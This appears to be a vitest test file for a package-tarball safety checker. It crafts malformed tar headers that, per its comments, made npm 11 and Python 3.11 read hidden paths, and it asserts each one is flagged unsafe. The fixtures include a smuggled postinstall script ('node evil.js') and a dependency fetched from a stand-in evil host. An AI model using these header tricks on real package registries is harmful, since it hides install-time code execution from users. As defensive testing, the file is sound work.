import { describe, expect, test } from 'vitest';
import { makeTarball, paxRecords } from '../verify/archives.ts';
import { codes, lookAtSdist, lookAtTarball } from '../verify/looking.ts';
import { makeTar, type TarEntry } from '../verify/tar-writer.ts';

// Tar headers that one reader takes for another path or another length. Each was tried with the client that is named.

const MANIFEST = JSON.stringify({ name: 'demo', version: '1.2.3', bundleDependencies: ['inner'] });
const EVIL = JSON.stringify({ name: 'inner', version: '1.0.0', scripts: { postinstall: 'node evil.js' } });
const look = (...entries: TarEntry[]) =>
  codes(lookAtTarball(makeTarball([{ path: 'package/package.json', bytes: MANIFEST }, ...entries])));

describe('the prefix field of a header', () => {
  test('with a line break behind its NUL: npm 11 installed node_modules/inner and ran its script', async () => {
    const prefix = `package\0\n${'x'.repeat(108)}/node_modules`;
    const patch = (header: Buffer) => void header.write(prefix, 345, 155, 'latin1');
    expect(await look({ path: 'inner/package.json', bytes: EVIL, patch })).toEqual(['ARCHIVE_UNSAFE']);
  });
  test('that is empty and has times behind it: npm 11 put a slash before the name, and ran its script', async () => {
    const patch = (header: Buffer) => void header.fill('1', 475, 499);
    expect(await look({ path: 'node_modules/inner/package.json', bytes: EVIL, patch })).toEqual([
      'ARCHIVE_UNSAFE',
    ]);
  });
  test('with a line break behind a NUL in its last 24 bytes', async () => {
    const patch = (header: Buffer) => void header.write(`p/${'x'.repeat(138)}\0\n/y`, 345, 155, 'latin1');
    expect(await look({ path: 'inner/package.json', bytes: EVIL, patch })).toEqual(['ARCHIVE_UNSAFE']);
  });
  test('with times where a short one leaves room for them is in order', async () => {
    const patch = (header: Buffer) => {
      header.write('package/lib', 345, 155, 'latin1');
      header.fill('1', 476, 499);
    };
    expect(await look({ path: 'index.js', bytes: '1', patch })).toEqual([]);
  });
});

describe('a header named as a folder, whose entry has another name and a body', () => {
  // Python 3.11's tarfile read the body of one with the old type flag as headers, and found pyproject.toml there.
  const hidden = (path: string, bytes: string) => makeTar([{ path, bytes }]).subarray(0, -1024);
  const renames: [string, (path: string) => TarEntry][] = [
    ['pax', (path) => ({ path: 'PaxHeader/x', type: 'x', bytes: paxRecords([['path', path]]) })],
    ['GNU', (path) => ({ path: '././@LongLink', type: 'L', bytes: `${path}\0` })],
  ];
  const patch = (header: Buffer) => void header.writeUInt8(0, 156);
  describe.each(renames)('by %s', (_, rename) => {
    test('with the old flag', async () => {
      const bytes = hidden('demo-1.2.3/pyproject.toml', 'requires = ["a @ https://evil.example.invalid/a"]');
      const sdist = makeTarball([
        { path: 'demo-1.2.3/PKG-INFO', bytes: 'Metadata-Version: 2.1\nName: demo\nVersion: 1.2.3\n' },
        rename('demo-1.2.3/data.bin'),
        { path: 'demo-1.2.3/data/', bytes, patch },
      ]);
      expect(await codes(lookAtSdist(sdist))).toEqual(['ARCHIVE_UNSAFE']);
      const body = hidden('package/node_modules/inner/package.json', EVIL);
      expect(await look(rename('package/data.bin'), { path: 'package/data/', bytes: body, patch })).toEqual([
        'ARCHIVE_UNSAFE',
      ]);
    });
  });

  test('a long name that is cut at a slash, as packers write it with the new flag, is in order', async () => {
    const path = `package/${'x'.repeat(91)}/`;
    const pax = { path: 'PaxHeader/x', type: 'x', bytes: paxRecords([['path', `${path}index.js`]]) };
    expect(await look(pax, { path, bytes: '1' })).toEqual([]);
  });
});
